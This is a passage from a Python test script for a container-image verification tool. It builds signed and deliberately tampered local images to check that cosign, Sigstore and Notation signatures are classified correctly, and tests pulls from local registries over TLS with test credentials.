        check(f"drift: {name}", found == expected and done.returncode == 1, f"{found ^ expected} {done.stderr}")
    done = neph("drift", "--format", "json", golden, "--root", WORK / "root.tar", "--events", WORK / "events.ndjson")
    found = {(one["kind"], one["path"]) for one in json.loads(done.stdout)["differences"]}
    check("drift: a changed program that ran", ("changed-executed", "/usr/bin/curl") in found, found)
    print("drift: 4 checks")


def signatures():
    """Signed by `cryptography` and `securesystemslib`, in each form, and told apart: verified, unsigned, untrusted, expired, altered."""
    done = subprocess.run([VENV / "bin/python", __file__, "--sign", WORK / "signed"], text=True, capture_output=True)
    check("signing", done.returncode == 0, done.stderr[-1500:])
    if done.returncode:
        return
    counts = {}
    for case in json.loads(done.stdout):
        args = ["--format", "json", "--fail-on", "any", "--keys", case["keys"], *case.get("args", [])]
        done = neph("verify", *args, case["image"])
        try:
            said = json.loads(done.stdout)
        except json.JSONDecodeError:
            said = {"verdict": None, "why": done.stderr}
        if VERBOSE:
            print(f"    {case['name']}: {said['verdict']}: {said['why']}")
        good = said["verdict"] == case["verdict"] and case.get("word", "") in said["why"] and done.returncode == (0 if case["verdict"] == "verified" else 1)
        check(f"signature: {case['name']}", good, f"expected {case['verdict']} ({case.get('word', '')}), got {said} {done.stderr}")
        counts[case["verdict"]] = counts.get(case["verdict"], 0) + 1
    print(f"signatures: {sum(counts.values())} cases: {counts}")


def sign(folder):
    """Runs inside the virtual environment: writes signed images, and prints the cases."""
    import cbor2
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa, utils
    from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
    from securesystemslib.dsse import Envelope
    from securesystemslib.signer import CryptoSigner

    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    b64 = lambda data: base64.b64encode(data).decode()
    url = lambda data: base64.urlsafe_b64encode(data).rstrip(b"=").decode()
    now = datetime.datetime.now(datetime.timezone.utc)
    day = datetime.timedelta(days=1)
    pem = lambda key: key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)

    def raw(key, data, hash256=hashes.SHA256()):
        if isinstance(key, ed25519.Ed25519PrivateKey):
            return key.sign(data)
        if isinstance(key, rsa.RSAPrivateKey):
            return key.sign(data, padding.PKCS1v15(), hash256)
        return key.sign(data, ec.ECDSA(hash256))

    keys = {"p256": ec.generate_private_key(ec.SECP256R1()), "p384": ec.generate_private_key(ec.SECP384R1()), "ed25519": ed25519.Ed25519PrivateKey.generate(),
            "rsa2048": rsa.generate_private_key(65537, 2048), "rsa3072": rsa.generate_private_key(65537, 3072)}
    log = ec.generate_private_key(ec.SECP256R1())
    (folder / "log.pub").write_bytes(pem(log))
    for name, key in keys.items():
        (folder / f"{name}.pub").write_bytes(pem(key))

    def certificate(subject, issuer=None, *, ca=False, names=(), begin=now - day, end=now + day, oidc=None, key=None, usage=True):
        key = key or ec.generate_private_key(ec.SECP256R1())
        name = x509.Name([] if not subject else [x509.NameAttribute(NameOID.COMMON_NAME, subject), x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Example")])
        builder = x509.CertificateBuilder().subject_name(name).public_key(key.public_key()).serial_number(x509.random_serial_number())
        builder = builder.not_valid_before(begin).not_valid_after(end).issuer_name(issuer[1].subject if issuer else name)
        builder = builder.add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
        if names:
            builder = builder.add_extension(x509.SubjectAlternativeName([x509.RFC822Name(one) if "@" in one else x509.UniformResourceIdentifier(one) for one in names]), critical=True)
        if not ca and usage:
            builder = builder.add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CODE_SIGNING]), critical=False)
        if oidc:
            builder = builder.add_extension(x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.57264.1.1"), oidc.encode()), critical=False)
            builder = builder.add_extension(x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.57264.1.8"), bytes([12, len(oidc)]) + oidc.encode()), critical=False)
        signer = issuer[0] if issuer else key
        return key, builder.sign(signer, hashes.SHA256())

    def as_pem(*certificates):
        return b"".join(one[1].public_bytes(serialization.Encoding.PEM) for one in certificates)

    root = certificate("root", ca=True, begin=now - 1000 * day, end=now + 1000 * day)
    middle = certificate("middle", root, ca=True, begin=now - 900 * day, end=now + 900 * day)
    stranger = certificate("stranger", ca=True)
    (folder / "root.pem").write_bytes(as_pem(root))
    (folder / "stranger.pem").write_bytes(as_pem(stranger))

    made, other = Made([content()]), Made([content()[:50]])
    cases, counter = [], iter(range(1000))

    def payload(digest):
        return json.dumps({"critical": {"identity": {"docker-reference": "registry.example/shop/app"}, "image": {"docker-manifest-digest": digest}, "type": "cosign container image signature"}, "optional": None}).encode()

    def artifact(image, layers, *, subject=None, kind=None, config=b"{}", config_type="application/vnd.oci.empty.v1+json"):
        """Puts a manifest beside an image; the caller says how it is found."""
        image.blobs[sha(config)] = config
        described = []
        for media, data, annotations in layers:
            image.blobs[sha(data)] = data
            described.append({"mediaType": media, "digest": sha(data), "size": len(data), "annotations": annotations})
        document = {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": {"mediaType": config_type, "digest": sha(config), "size": len(config)}, "layers": described}
        if kind:
            document["artifactType"] = kind
        if subject:
            document["subject"] = {"mediaType": OCI_MANIFEST, "digest": subject, "size": 1}
        data = json.dumps(document).encode()
        image.blobs[sha(data)] = data
        return {"mediaType": OCI_MANIFEST, "digest": sha(data), "size": len(data)}

    def copy(image):
        twin = object.__new__(Made)
        twin.__dict__.update(image.__dict__, blobs=dict(image.blobs))
        return twin

    def case(name, verdict, image, more, text, word="", args=(), alter=None):
        path = folder / f"image{next(counter)}"
        image.layout(path, more=more)
        if alter:
            alter(path)
        listed = folder / f"{path.name}.toml"
        listed.write_text(text)
        cases.append({"name": name, "verdict": verdict, "image": str(path) + ":1.4", "keys": str(listed), "word": word, "args": list(args)})

    def key_entry(name, more=""):
        return f'[[key]]\nname = "{name}"\nfile = "{name}.pub"\n{more}\n'

    def simple(key, image=made, about=None, *, by="tag", annotations=None, data=None, signature=None):
        image = copy(image)
        data = data or payload(about or image.digest)
        notes = {"dev.cosignproject.cosign/signature": b64(signature or raw(key, data)), **(annotations or {})}
        layer = ("application/vnd.dev.cosign.simplesigning.v1+json", data, notes)
        if by == "tag":
            entry_ = artifact(image, [layer], config_type="application/vnd.oci.image.config.v1+json")
            entry_["annotations"] = {"org.opencontainers.image.ref.name": image.digest.replace(":", "-") + ".sig"}
        else:
            entry_ = artifact(image, [layer], subject=image.digest, kind="application/vnd.dev.cosign.artifact.sig.v1+json")
        return image, [entry_]

    for name, key in keys.items():
        case(f"cosign {name}", "verified", *simple(key), key_entry(name))
        case(f"cosign {name}, referrer", "verified", *simple(key, by="subject"), key_entry(name))
        case(f"cosign {name}, another key", "untrusted", *simple(key), key_entry("p384" if name != "p384" else "p256"))
        case(f"cosign {name}, of another image", "altered", *simple(key, about=other.digest), key_entry(name), "of another image")
        case(f"cosign {name}, key over", "expired", *simple(key), key_entry(name, "valid_until = 2026-01-31"), "counts until 2026-01-31")
    case("cosign p384 with SHA-384", "verified", *simple(keys["p384"], signature=raw(keys["p384"], payload(made.digest), hashes.SHA384())), key_entry("p384"))
    p256 = keys["p256"]
    image, more = simple(p256)
    more[0]["annotations"] = {"kind": "dev.cosignproject.cosign/sigs"}
    case("cosign, as `cosign save` lays it down", "verified", image, more, key_entry("p256"))
    case("no signature", "unsigned", made, [], key_entry("p256"))
    case("key not yet", "expired", *simple(p256), key_entry("p256", "valid_from = 2099-01-01"), "counts from")
    case("key over, but asked for then", "verified", *simple(p256), key_entry("p256", "valid_until = 2026-01-31"), args=["--at", "2026-01-31T23:00:00Z"])
    case("two keys, one over", "verified", *simple(p256), key_entry("p256", "valid_until = 2026-01-31") + key_entry("rsa2048"), args=["--at", "2026-01-01T00:00:00Z"])
    case("another repository", "untrusted", *simple(p256), key_entry("p256", 'repositories = ["registry.example/other/*"]'), "may not sign")
    case("this repository", "verified", *simple(p256), key_entry("p256", 'repositories = ["registry.example/shop/*"]'))
    case("payload altered", "untrusted", *simple(p256, signature=raw(p256, payload(other.digest))), key_entry("p256"), "altered")
    image, more = simple(p256)
    case("stored payload altered", "altered", image, more, key_entry("p256"), alter=lambda path: [
        (path / "blobs" / digest.replace(":", "/")).write_bytes(data.replace(b"shop", b"evil")) for digest, data in image.blobs.items() if b"docker-manifest-digest" in data])
    layer = made.layers[0]["digest"]
    evil = gzip.compress(archive(change(content(), "usr/bin/sh", content=elf("evil"))))
    case("content altered under a good signature", "altered", image, more, key_entry("p256"), alter=lambda path: (path / "blobs" / layer.replace(":", "/")).write_bytes(evil))
    image, more = simple(keys["rsa2048"])
    again, further = simple(p256, image)
    case("two signatures, one counts", "verified", again, more + further, key_entry("p256"))
    case("signature that is none", "untrusted", *simple(p256, annotations={"dev.cosignproject.cosign/signature": "%%%"}), key_entry("p256"))
    case("payload that is none", "untrusted", *simple(p256, data=b"[1]"), key_entry("p256"))

    # Certificates of an authority, with and without the promise of a log.
    def authority(more="", identities='["https://github.com/shop/*/.github/workflows/*"]', roots="root.pem"):
        return f'[[authority]]\nname = "builders"\nroots = "{roots}"\nidentities = {identities}\n{more}\n'

    who = "https://github.com/shop/app/.github/workflows/release.yml@refs/heads/main".replace("@refs/heads/main", "")
    oidc = "https://token.actions.githubusercontent.com"

    def keyless(leaf, *, about=None, when=None, record=True, promise=None, body_of=None, tamper=False):
        image = copy(made)
        data = payload(about or image.digest)
        signature = raw(leaf[0], data)
        notes = {"dev.sigstore.cosign/certificate": as_pem(leaf).decode(), "dev.sigstore.cosign/chain": as_pem(middle, root).decode()}
        if record:
            recorded = body_of or data
            body = b64(json.dumps({"apiVersion": "0.0.1", "kind": "hashedrekord", "spec": {"data": {"hash": {"algorithm": "sha256", "value": hashlib.sha256(recorded).hexdigest()}},
                       "signature": {"content": b64(signature), "publicKey": {"content": b64(as_pem(leaf))}}}}).encode())
            entry_ = {"body": body, "integratedTime": int((when or now).timestamp()), "logID": hashlib.sha256(b"log").hexdigest(), "logIndex": 7}
            canonical = json.dumps(entry_, sort_keys=True, separators=(",", ":")).encode()
            notes["dev.sigstore.cosign/bundle"] = json.dumps({"SignedEntryTimestamp": b64(raw(promise or log, canonical)), "Payload": entry_})
        if tamper:
            data = data.replace(b"shop", b"evil")
        return simple(leaf[0], made, annotations=notes, data=data, signature=signature)

    good = certificate("", middle, names=[who], oidc=oidc)
    old = certificate("", middle, names=[who], oidc=oidc, begin=now - 100 * day, end=now - 99 * day)
    logged = 'transparency_key = "log.pub"'
    issued = f'issuer = "{oidc}"'
    case("certificate", "verified", *keyless(good, record=False), authority(issued))
    case("certificate, logged", "verified", *keyless(good), authority(issued + "\n" + logged))
    case("certificate over, logged when it held", "verified", *keyless(old, when=now - 99.5 * day), authority(logged))
    case("certificate over, logged later", "expired", *keyless(old, when=now - 50 * day), authority(logged))
    case("certificate over, not logged", "expired", *keyless(old, record=False), authority(), "nothing proves")
    case("certificate of strangers", "untrusted", *keyless(good), authority(roots="stranger.pem"))
    case("certificate of somebody else", "untrusted", *keyless(good), authority(identities='["https://github.com/other/**"]'), "does not count")
    case("certificate by another issuer", "untrusted", *keyless(good), authority('issuer = "https://accounts.example"'), "identified by")
    case("certificate of a person", "verified", *keyless(certificate("", middle, names=["ann@shop.example"])), authority(identities='["*@shop.example"]'))
    case("certificate, not logged though it must be", "untrusted", *keyless(good, record=False), authority(logged), "no transparency log")
    case("certificate, promise of another log", "untrusted", *keyless(good, promise=p256), authority(logged), "not of the log")
    case("certificate, another entry", "altered", *keyless(good, body_of=b"other"), authority(logged), "recorded another")
    case("certificate, of another image", "altered", *keyless(good, about=other.digest), authority(logged), "of another image")
    case("certificate, payload altered", "altered", *keyless(good, tamper=True), authority(), "altered")
    case("authority that is over", "expired", *keyless(good), authority("valid_until = 2026-01-01"), "counts until")

    # Bundles of Sigstore, the envelope made by securesystemslib.
    def bundle(key, about=None, predicate="https://sigstore.dev/cosign/sign/v1", certificate_=None, tamper=False):
        image = copy(made)
        statement = json.dumps({"_type": "https://in-toto.io/Statement/v1", "subject": [{"digest": {"sha256": (about or image.digest)[7:]}}], "predicateType": predicate, "predicate": {}}).encode()
        envelope = Envelope(statement, "application/vnd.in-toto+json", {})
        envelope.sign(CryptoSigner(key))
        shown = envelope.to_dict()
        document = {"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "verificationMaterial": {"publicKey": {"hint": "x"}}, "dsseEnvelope": shown}
        if certificate_:
            document["verificationMaterial"] = {"certificate": {"rawBytes": b64(certificate_[1].public_bytes(serialization.Encoding.DER))}}
        if tamper:
            shown["payload"] = b64(statement.replace(b"v1", b"v2", 1))
        kind = "application/vnd.dev.sigstore.bundle.v0.3+json"
        return image, [artifact(image, [(kind, json.dumps(document).encode(), {})], subject=image.digest, kind=kind)]

    for name in ("p256", "ed25519"):
        case(f"bundle {name}", "verified", *bundle(keys[name]), key_entry(name))
    case("bundle, another key", "untrusted", *bundle(p256), key_entry("ed25519"))
    case("bundle, of another image", "altered", *bundle(p256, other.digest), key_entry("p256"), "of another image")
    case("bundle, altered", "untrusted", *bundle(p256, tamper=True), key_entry("p256"))
    case("bundle that is a list of parts", "unsigned", *bundle(p256, predicate="https://spdx.dev/Document"), key_entry("p256"))
    direct = certificate("", root, names=[who])
    case("bundle with a certificate", "verified", *bundle(direct[0], certificate_=direct), authority())

    # Notation.
    def notation(leaf, algorithm, *, about=None, expiry=None, tamper=False, media="application/jose+json", critical=("io.cncf.notary.signingScheme",)):
        image = copy(made)
        body_type = "application/vnd.cncf.notary.payload.v1+json"
        cose = media == "application/cose"
        header = {"alg": algorithm, "cty": "application/vnd.cncf.notary.payload.v1+json", "crit": list(critical), "io.cncf.notary.signingScheme": "notary.x509", "io.cncf.notary.signingTime": now.strftime("%Y-%m-%dT%H:%M:%SZ")}
        if expiry:
            header["io.cncf.notary.expiry"] = expiry.strftime("%Y-%m-%dT%H:%M:%SZ")
        content_ = {"targetArtifact": {"mediaType": OCI_MANIFEST, "digest": about or image.digest, "size": len(image.manifest)}}
        protected, body = url(json.dumps(header).encode()), url(json.dumps(content_).encode())
        signing = f"{protected}.{body}".encode()
        if cose:
            numbers = {"ES256": -7, "ES384": -35, "PS256": -37, "PS384": -38, "PS512": -39}
            headers = {1: numbers[algorithm], 2: list(critical), 3: body_type, "io.cncf.notary.signingScheme": "notary.x509", "io.cncf.notary.signingTime": cbor2.CBORTag(1, int(now.timestamp()))}
            if expiry:
                headers["io.cncf.notary.expiry"] = cbor2.CBORTag(1, int(expiry.timestamp()))
            sealed, inner = cbor2.dumps(headers), json.dumps(content_).encode()
            signing = cbor2.dumps(["Signature1", sealed, b"", inner])
        hash_ = {"256": hashes.SHA256(), "384": hashes.SHA384(), "512": hashes.SHA512()}[algorithm[2:]]
        if algorithm.startswith("PS"):
            signature = leaf[0].sign(signing, padding.PSS(padding.MGF1(hash_), hash_.digest_size), hash_)
        else:
            r, s = utils.decode_dss_signature(leaf[0].sign(signing, ec.ECDSA(hash_)))
            size = (leaf[0].curve.key_size + 7) // 8
            signature = r.to_bytes(size, "big") + s.to_bytes(size, "big")
        if tamper:
            body = url(json.dumps({**content_, "x": 1}).encode())
        ders = [one[1].public_bytes(serialization.Encoding.DER) for one in (leaf, middle, root)]
        chain = [b64(der) for der in ders]
        document = {"payload": body, "protected": protected, "signature": url(signature), "header": {"x5c": chain, "io.cncf.notary.signingAgent": "notation"}}
        kind = "application/vnd.cncf.notary.signature"
        written = json.dumps(document).encode()
        if cose:
            inner = inner.replace(b"size", b"Size") if tamper else inner
            written = cbor2.dumps(cbor2.CBORTag(18, [sealed, {33: ders, "io.cncf.notary.signingAgent": "notation"}, inner, signature]))
        return image, [artifact(image, [(media, written, {})], subject=image.digest, config_type=kind)]

    signer = {"ES256": certificate("signer", middle), "ES384": certificate("signer", middle, key=ec.generate_private_key(ec.SECP384R1()))}
    for algorithm, key in [("PS256", keys["rsa2048"]), ("PS384", keys["rsa3072"]), ("PS512", keys["rsa3072"])]:
        signer[algorithm] = certificate("signer", middle, key=key, usage=algorithm != "PS512")
    subject = authority(identities='["CN=signer, O=Example"]')
    for media in ("application/jose+json", "application/cose"):
        name = f"notation {media.removeprefix('application/')}"
        for algorithm, leaf in signer.items():
            case(f"{name} {algorithm}", "verified", *notation(leaf, algorithm, media=media), subject)
        es256 = signer["ES256"]
        case(f"{name}, tampered", "altered", *notation(es256, "ES256", tamper=True, media=media), subject)
        case(f"{name}, of another image", "altered", *notation(es256, "ES256", about=other.digest, media=media), subject)
        case(f"{name}, over", "expired", *notation(es256, "ES256", expiry=now - day, media=media), subject, "let it count until")
        case(f"{name}, somebody else", "untrusted", *notation(es256, "ES256", media=media), authority(identities='["CN=other*"]'), "does not count")
        case(f"{name}, strangers", "untrusted", *notation(es256, "ES256", media=media), authority(identities='["**"]', roots="stranger.pem"), "none of the roots")
        case(f"{name}, certificate over", "expired", *notation(certificate("signer", middle, begin=now - 9 * day, end=now - 8 * day), "ES256", media=media), subject)
        case(f"{name}, critical header", "untrusted", *notation(es256, "ES256", critical=("x",), media=media), subject, "be understood")
    case("notation in something else", "untrusted", *notation(es256, "ES256", media="application/other"), subject, "are not known")
    print(json.dumps(cases))


def tools():
    needed = ["skopeo", "umoci", "docker-registry"]
    if not all(map(shutil.which, needed)) and os.geteuid() == 0 and shutil.which("apt-get"):
        subprocess.run("apt-get update -qq; apt-get install -y -qq --no-install-recommends skopeo umoci docker-registry", shell=True, capture_output=True)
    return [name for name in needed if not shutil.which(name)]


def others(golden):
    """What other tools make of the same images."""
    missing = tools()
    if missing:
        print(f"other tools: skipped, not installed: {', '.join(missing)}")
        return
    files = content()
    layers = [directories(files) + files[:30], files[30:], [entry("srv/app/.wh.config.json"), entry("srv/app/lib/.wh..wh..opq"), entry("srv/app/lib/only.py", "x = 1\n")], [entry("etc/passwd", "root:x:0:0::/:/bin/sh\napp:x:1000:1000::/:/bin/sh\n")]]
    made = Made(layers)
    layout = made.layout(WORK / "other", "x:1.4")
    # umoci unpacks, and what lies there is held against the manifest.
    unpacked = WORK / "unpacked"
    shutil.rmtree(unpacked, ignore_errors=True)
    done = subprocess.run(["umoci", "unpack", "--rootless", "--image", f"{layout}:1.4", unpacked], capture_output=True, text=True)
    document = json.loads(neph("manifest", "--format", "json", f"oci:{layout}:1.4").stdout)
    said = {one["path"][1:]: one for one in document["files"]}
    there = {}
    base = unpacked / "rootfs"
    for folder, names, plain in os.walk(base):
        for name in names + plain:
            path = pathlib.Path(folder, name)
            status = path.lstat()
            there[str(path.relative_to(base))] = (path, status)
    check("umoci unpacks", done.returncode == 0, done.stderr)
    check("umoci: the same paths", set(said) == set(there), sorted(set(said) ^ set(there))[:10])
    wrong = []
    for path, (real, status) in there.items():
        one = said.get(path, {})
        if real.is_symlink():
            wrong += [path] * (one.get("target") != os.readlink(real))
        elif real.is_file():
            wrong += [path] * (one.get("sha256") != hashlib.sha256(real.read_bytes()).hexdigest() or int(one.get("mode", "0"), 8) != status.st_mode & 0o7777)
        else:
            wrong += [path] * (one.get("kind") != "directory" or int(one["mode"], 8) != status.st_mode & 0o7777)
    check("umoci: the same content and permissions", not wrong, wrong[:10])
    # skopeo packs it in each way that it knows.
    policy = ["--insecure-policy"]
    for name, target in [("docker-archive", f"docker-archive:{WORK}/skopeo.tar:registry.example/shop/app:1.4"), ("oci-archive", f"oci-archive:{WORK}/skopeo-oci.tar:1.4"), ("dir", f"dir:{WORK}/skopeo-dir"), ("zstd", f"oci:{WORK}/skopeo-zstd:1.4")]:
        for path in ("skopeo.tar", "skopeo-oci.tar"):
            (WORK / path).unlink(missing_ok=True)
        for path in ("skopeo-dir", "skopeo-zstd"):
            shutil.rmtree(WORK / path, ignore_errors=True)
        more = ["--dest-compress-format", "zstd"] if name == "zstd" else []
        done = subprocess.run(["skopeo", *policy, "copy", *more, f"oci:{layout}:1.4", target], capture_output=True, text=True)
        image = target.split(":")[1]
        result, found = compare(layout, image, "--fail-on", "low")
        check(f"skopeo {name}", done.returncode == 0 and result.returncode == 0 and found["sameness"].startswith("same"), done.stderr + result.stderr + json.dumps(found["differences"])[:500])
    inspected = json.loads(subprocess.run(["skopeo", "inspect", "--config", f"oci:{layout}:1.4"], capture_output=True, text=True).stdout)
    check("skopeo: the same layers", [one["diff_id"] for one in document["layers"]] == inspected["rootfs"]["diff_ids"])
    registry(layout, made)
    print("other tools: umoci (every path), skopeo (4 forms), docker-registry (password, TLS, tokens, failures)")


def registry(layout, made):
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    folder = WORK / "registry"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    # `htpasswd` would make this line; the password is `secret`.
    (folder / "htpasswd").write_text("ann:" + subprocess.run([VENV / "bin/python", "-c", "import bcrypt;print(bcrypt.hashpw(b'secret', bcrypt.gensalt(5)).decode())"], capture_output=True, text=True).stdout)
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", folder / "key.pem", "-out", folder / "cert.pem", "-days", "2", "-subj", "/CN=localhost", "-addext", "basicConstraints=critical,CA:FALSE", "-addext", "subjectAltName=IP:127.0.0.1,DNS:localhost"], capture_output=True, check=True)
    running = []

    def free():
        import socket
        with socket.socket() as one:
            one.bind(("127.0.0.1", 0))
            return one.getsockname()[1]

    def start(name, more):
        port = free()
        text = f"version: 0.1\nlog:\n  level: error\nstorage:\n  filesystem:\n    rootdirectory: {folder}/{name}\nhttp:\n  addr: 127.0.0.1:{port}\n{more}"
        (folder / f"{name}.yml").write_text(text)
        running.append(subprocess.Popen(["docker-registry", "serve", folder / f"{name}.yml"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        for _ in range(100):
            try:
                import socket
                socket.create_connection(("127.0.0.1", port), 1).close()
                return port
            except OSError:
                time.sleep(0.1)
        return port

    try:
        plain = start("plain", "")
        locked = start("locked", f"  tls:\n    certificate: {folder}/cert.pem\n    key: {folder}/key.pem\nauth:\n  htpasswd:\n    realm: x\n    path: {folder}/htpasswd\n")
        push = lambda port, *more: subprocess.run(["skopeo", "--insecure-policy", "copy", "--dest-tls-verify=false", *more, f"oci:{layout}:1.4", f"docker://127.0.0.1:{port}/shop/app:1.4"], capture_output=True, text=True)
        pushed = [push(plain), push(locked, "--dest-creds", "ann:secret")]
        check("registry: pushed", all(one.returncode == 0 for one in pushed), [one.stderr for one in pushed])

        def same(name, image, *args, env=None, code=0, word=""):
            done = neph("compare", "--fail-on", "low", *args, f"oci:{layout}:1.4", image, env=env)
            check(f"registry: {name}", done.returncode == code and word in done.stderr, done.stderr + done.stdout)

        same("plain", f"docker://127.0.0.1:{plain}/shop/app:1.4", "--plain-http")
        same("by digest", f"docker://127.0.0.1:{plain}/shop/app@{made.digest}", "--plain-http")
        same("another digest", f"docker://127.0.0.1:{plain}/shop/app@sha256:{'0' * 64}", "--plain-http", code=2, word="has no")
        same("no such tag", f"docker://127.0.0.1:{plain}/shop/app:none", "--plain-http", code=2, word="has no")
        same("TLS without authority", f"docker://127.0.0.1:{locked}/shop/app:1.4", code=2)
        password = {"NEPH_REGISTRY_PASSWORD": "secret"}
        same("TLS with password", f"docker://127.0.0.1:{locked}/shop/app:1.4", "--ca", folder / "cert.pem", "--username", "ann", env=password)
        same("wrong password", f"docker://127.0.0.1:{locked}/shop/app:1.4", "--ca", folder / "cert.pem", "--username", "ann", env={"NEPH_REGISTRY_PASSWORD": "wrong"}, code=2, word="401")
        same("no password", f"docker://127.0.0.1:{locked}/shop/app:1.4", "--ca", folder / "cert.pem", code=2, word="--username")

        state = {"broken": 0, "busy": 0, "alter": False, "tokens": 0}

        class Proxy(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def log_message(self, *_):
                pass

            def reply(self, status, body=b"", **headers):
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name.replace("_", "-"), value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                if self.path.startswith("/token"):
                    state["tokens"] += 1
                    good = self.headers.get("Authorization") == "Basic " + base64.b64encode(b"ann:secret").decode() and "scope=repository%3Ashop%2Fapp%3Apull" in self.path
                    return self.reply(200 if good else 401, b'{"token":"t0ken"}')
                if self.headers.get("Authorization") != "Bearer t0ken":
                    realm = f'Bearer realm="http://127.0.0.1:{self.server.server_port}/token",service="registry",scope="repository:shop/app:pull"'
                    return self.reply(401, WWW_Authenticate=realm)
                if state["busy"] < 2:
                    state["busy"] += 1
                    return self.reply(429, Retry_After="0")
                request = urllib.request.Request(f"http://127.0.0.1:{plain}{self.path}", headers={name: value for name, value in self.headers.items() if name.lower() in ("accept", "range")})
                try:
                    with urllib.request.urlopen(request) as answer:
                        body, status, kind = answer.read(), answer.status, answer.headers.get("Content-Type", "")
                except urllib.error.HTTPError as error:
                    return self.reply(error.code)
                if state["alter"] and "/blobs/" in self.path and len(body) > 300:
                    body = body[:-20] + bytes(20)
                if "/blobs/" in self.path and len(body) > 300 and state["broken"] < 2:
                    # The connection breaks after a third.
                    state["broken"] += 1
                    self.send_response(status)
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body[: len(body) // 3])
                    self.wfile.flush()
                    return self.connection.close()
                self.reply(status, body, Content_Type=kind)

        server = ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        image = f"docker://127.0.0.1:{server.server_port}/shop/app:1.4"
        same("tokens, too many requests, broken connections", image, "--plain-http", "--username", "ann", env=password)
        check("registry: the proxy failed on purpose", state["broken"] == 2 and state["busy"] == 2 and state["tokens"] == 1, state)
        state["alter"] = True
        same("content altered on the way", image, "--plain-http", "--username", "ann", env=password, code=2, word="altered")
        server.shutdown()
    finally:
        for one in running:
            one.terminate()
            one.wait()


def main():
    global NEPH, VERBOSE
    parser = argparse.ArgumentParser()
    parser.add_argument("--neph", type=pathlib.Path, default=NEPH)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--only")
    parser.add_argument("--verbose", action="store_true")
    parser.add_argument("--sign", type=pathlib.Path)
    args = parser.parse_args()
    if args.sign:
        return sign(args.sign)
    NEPH, VERBOSE = args.neph, args.verbose
    random.seed(args.seed)
    WORK.mkdir(parents=True, exist_ok=True)
    marker = VENV / "installed"
    if not marker.exists() or marker.read_text() != " ".join(PIP):
        subprocess.run([sys.executable, "-m", "venv", "--clear", VENV], check=True)
        subprocess.run([VENV / "bin/pip", "install", "-q", *PIP, "bcrypt"], check=True)
        marker.write_text(" ".join(PIP))
    begin = time.monotonic()
    golden = Made([content()]).layout(WORK / "golden")
    parts = {"benign": lambda: benign(golden), "tampered": lambda: tampered(golden), "list": lambda: golden_list(golden), "hostile": lambda: hostile(golden),
             "drift": lambda: drifted(golden), "signatures": signatures, "others": lambda: others(golden)}
    for name, part in parts.items():
        if args.only in (None, name):
            part()
    print(f"{PASSED} passed, {len(FAILED)} failed in {time.monotonic() - begin:.0f} s")
    sys.exit(1 if FAILED else 0)


if __name__ == "__main__":
    main()
